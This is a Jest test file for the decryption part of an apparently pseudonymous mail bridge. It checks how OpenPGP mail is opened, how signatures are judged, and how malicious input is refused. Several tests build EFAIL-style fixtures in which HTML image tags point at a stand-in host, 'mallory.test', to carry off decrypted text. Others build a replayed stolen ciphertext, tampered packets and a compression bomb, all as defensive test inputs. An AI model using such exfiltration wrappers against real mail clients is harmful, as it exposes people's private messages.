import { beforeAll, describe, expect, test } from '@jest/globals';
import { createMessage, readPrivateKey, sign } from 'openpgp';
import { openEndToEnd } from '../../../src/incoming/decrypt/endToEnd';
import type { Contact, Nym } from '../../../src/nym';
import { sealSymmetric } from '../../../src/protocol/openpgp';
import { sealedByServer } from '../../support/forAlice';
import { armoredSecretKey, publicKey, secretKey } from '../../support/keys';
import type { KeyOwner } from '../../support/keys';
import { aliceActive, start } from '../../support/nyms';
import { bomb, encrypted, literal, sessionFor, unprotected } from '../../support/packets';
import {
  armored,
  entity,
  inlineToAlice,
  mailToAlice,
  partsOf,
  pgpMimeToAlice,
  sealedToAlice,
} from '../../support/pgpMail';
import type { MailWishes } from '../../support/pgpMail';

// Bob writes to Alice, encrypted to her key, and so does Mallory, who wants her bridge to open what was not for Mallory.

let alice: Nym;
beforeAll(async () => {
  const made = await aliceActive();
  made.store.close();
  alice = {
    ...made.alice,
    contacts: [await contact('bob@example.org', 'bob'), await contact('carol@example.org', 'carol')],
  };
});

async function contact(address: string, owner: KeyOwner): Promise<Contact> {
  return { address, key: await publicKey(owner), encrypt: 'always', sign: false };
}

const opened = (mail: Buffer) => openEndToEnd(mail, { nym: alice, keys: [alice.key] }, start);
const notOpened = (reason: RegExp) => ({ kind: 'not-opened', reason: expect.stringMatching(reason) });
const mixed = { kind: 'mixed', reason: expect.stringMatching(/^[A-Z].*closed\.$/) };

const words = entity('at noon, by the bamboo\r\n');

describe('what Bob has encrypted to Alice is opened', () => {
  test('as PGP/MIME', async () => {
    expect(await opened(pgpMimeToAlice(await sealedToAlice(words)))).toEqual({
      ...{ kind: 'opened', form: 'entity', contents: Buffer.from(words), signature: { verdict: 'missing' } },
    });
  });

  test('as one text, in the charset that the mail names where it is not UTF-8', async () => {
    const texts = { 'Grüße\n': Buffer.from('Grüße\n', 'latin1'), 'Grüße — Bob\n': Buffer.from('Grüße — Bob\n') };
    for (const [text, bytes] of Object.entries(texts)) {
      const found = await opened(inlineToAlice(await sealedToAlice(bytes)));
      expect(found).toMatchObject({ kind: 'opened', form: 'text', contents: Buffer.from(text) });
    }
  });

  test('as a bare text inside PGP/MIME, which some programs write', async () => {
    for (const text of ['just words\n', 'Hello: Alice\n\nat noon\n']) {
      const found = await opened(pgpMimeToAlice(await sealedToAlice(text)));
      expect(found).toMatchObject({ kind: 'opened', form: 'text', contents: Buffer.from(text) });
    }
  });

  test('also to the key of an earlier life, and to a hidden one', async () => {
    const old = await secretKey('dave');
    const late = await sealedToAlice(words, { recipients: [await publicKey('carol')], wildcard: true });
    const keys = [old, await secretKey('carol')];
    expect(await openEndToEnd(pgpMimeToAlice(late), { nym: alice, keys }, start)).toMatchObject({ kind: 'opened' });
  });
});

describe('the verdict on who signed it', () => {
  const verdictOn = async (signer: KeyOwner, wishes: MailWishes = {}) => {
    const found = await opened(pgpMimeToAlice(await sealedToAlice(words, { signer: await secretKey(signer) }), wishes));
    return found?.kind === 'opened' ? found.signature : found;
  };

  test('good: a contact, from the contact’s own address', async () => {
    const { fingerprint } = await publicKey('bob');
    const created = new Date('2026-11-22T11:00:00Z');
    for (const from of ['Bob <bob@example.org>', 'BOB@Example.Org'])
      expect(await verdictOn('bob', { from })).toEqual({
        verdict: 'good',
        contact: 'bob@example.org',
        fingerprint,
        created,
      });
  });

  test('good from each of the addresses that have one key', async () => {
    const armor = await sealedToAlice(words, { signer: await secretKey('bob') });
    const addresses = ['bob@work.example', 'bob@example.org'];
    const nym = { ...alice, contacts: await Promise.all(addresses.map((address) => contact(address, 'bob'))) };
    for (const from of addresses) {
      const found = await openEndToEnd(pgpMimeToAlice(armor, { from }), { nym, keys: [alice.key] }, start);
      expect(found).toMatchObject({ signature: { verdict: 'good', contact: from } });
    }
  });

  test('not the sender: Carol’s words under Bob’s name, or under two names', async () => {
    const said = { verdict: 'not-the-sender', contact: 'carol@example.org' };
    for (const from of [
      'Bob <bob@example.org>',
      'carol@example.org, bob@example.org',
      '"carol@example.org" <bob@example.org>',
    ])
      expect(await verdictOn('carol', { from })).toMatchObject(said);
    expect(await verdictOn('carol', { fields: ['From: carol@example.org'] })).toMatchObject(said);
  });

  test('unknown key: no contact’s', async () => {
    expect(await verdictOn('alice')).toMatchObject({ verdict: 'unknown-key' });
    expect(await verdictOn('alice')).not.toHaveProperty('contact');
  });

  test('bad: signed by Bob, and then changed by somebody who had it open', async () => {
    const key = await readPrivateKey({ armoredKey: armoredSecretKey('bob').toString() });
    const date = new Date(start - 3_600_000);
    const message = await createMessage({ text: 'at noon, by the bamboo', date });
    const signed = Buffer.from(await sign({ message, signingKeys: key, date, format: 'binary' }));
    signed.write('one', signed.indexOf('noon'));
    const armor = armored(Buffer.concat([await sessionFor(alice.key.publicKey), encrypted(signed)]));
    const said = { verdict: 'bad', contact: 'bob@example.org' };
    expect(await opened(inlineToAlice(armor))).toMatchObject({ kind: 'opened', signature: said });
  });

  test('in the mail: a part of its own, for the mail client to check', async () => {
    const signature =
      'Content-Type: application/pgp-signature\n\n-----BEGIN PGP SIGNATURE-----\n\nwsB\n-----END PGP SIGNATURE-----';
    const type = 'Content-Type: multipart/signed; protocol="application/pgp-signature"; micalg=pgp-sha256; boundary=s';
    const inside = `${type}\n\n${partsOf('s', [entity('noon'), signature])}`;
    expect(await opened(pgpMimeToAlice(await sealedToAlice(inside)))).toMatchObject({
      signature: { verdict: 'in-the-mail' },
    });
  });
});

describe('what must not be opened stays as it came', () => {
  test('a part beside readable ones: EFAIL would have an image carry it off', async () => {
    const armor = await sealedToAlice(words);
    const parts = [
      'Content-Type: text/html\n\n<img src="http://mallory.test/?',
      `Content-Type: text/plain\n\n${armor.toString()}`,
      'Content-Type: text/html\n\n">',
    ];
    expect(await opened(mailToAlice(['Content-Type: multipart/mixed; boundary=m'], partsOf('m', parts)))).toEqual(
      mixed,
    );
  });

  test('a text around the armor', async () => {
    const armor = await sealedToAlice('at noon\n');
    expect(await opened(inlineToAlice(Buffer.concat([Buffer.from('Please quote:\n'), armor])))).toEqual(mixed);
  });

  test('somebody else’s message that Mallory has put inside one of her own', async () => {
    const stolen = await sealedToAlice('from Bob, for Alice alone\n');
    const around = [
      entity(`<img src="http://mallory.test/?\n${stolen.toString()}\n">`),
      `Content-Type: multipart/mixed; boundary=m\n\n${partsOf('m', [entity('hello'), pgpMimeToAlice(stolen).toString()])}`,
      stolen,
    ];
    for (const inside of around) {
      expect(await opened(pgpMimeToAlice(await sealedToAlice(inside)))).toEqual(mixed);
      expect(await opened(inlineToAlice(await sealedToAlice(inside)))).toEqual(mixed);
    }
  });

  test('an article of the nym server’s, under whatever key of its, sent to the nym to see whether it is the one', async () => {
    const article = await sealedByServer('From: bob@example.org\n\nhello\n');
    for (const mail of [inlineToAlice(article), pgpMimeToAlice(article)])
      expect(await opened(mail)).toEqual(notOpened(/signed by the nym server/));
    const successor = { ...alice.server, key: await publicKey('dave'), formerKeys: [alice.server.key] };
    const later = { nym: { ...alice, server: successor }, keys: [alice.key] };
    expect(await openEndToEnd(inlineToAlice(article), later, start)).toEqual(notOpened(/signed by the nym server/));
    const outer = await sealSymmetric({ payload: article, passphrase: 'bamboo', now: new Date(start) });
    const nym = { ...alice, passphrases: ['bamboo'] };
    const found = await openEndToEnd(inlineToAlice(outer), { nym, keys: [nym.key] }, start);
    expect(found).toEqual(notOpened(/passphrase/));
  });
});

describe('what cannot be opened stays as it came, and says why', () => {
  const message = async (content: Buffer) => armored(Buffer.concat([await sessionFor(alice.key.publicKey), content]));

  test('without protection against alteration: what opens is Mallory’s to shape', async () => {
    expect(await opened(pgpMimeToAlice(await message(encrypted(literal(Buffer.from(words))))))).toMatchObject({
      kind: 'opened',
    });
    const found = await opened(pgpMimeToAlice(await message(unprotected(literal(Buffer.from(words))))));
    expect(found).toEqual(notOpened(/protection against alteration/));
  });

  test('altered on its way', async () => {
    const packets = encrypted(literal(Buffer.from(words)));
    packets[packets.length - 30] = (packets[packets.length - 30] ?? 0) ^ 1;
    expect(await opened(pgpMimeToAlice(await message(packets)))).toEqual(notOpened(/altered/));
  });

  test('for another key', async () => {
    const recipients = [await publicKey('carol')];
    expect(await opened(pgpMimeToAlice(await sealedToAlice(words, { recipients })))).toEqual(notOpened(/mail client/));
  });

  test('a bomb: no memory is spent on it', async () => {
    expect(await opened(pgpMimeToAlice(await message(encrypted(bomb(200)))))).toEqual(notOpened(/unpack/));
  });

  test('S/MIME', async () => {
    const type = 'Content-Type: application/pkcs7-mime; smime-type=enveloped-data';
    expect(await opened(mailToAlice([type], 'MIIB\n'))).toEqual(notOpened(/S\/MIME/));
  });
});

test('nothing is said of a mail that nobody has encrypted', async () => {
  expect(await opened(mailToAlice(['Content-Type: text/plain'], 'at noon\n'))).toBeUndefined();
});
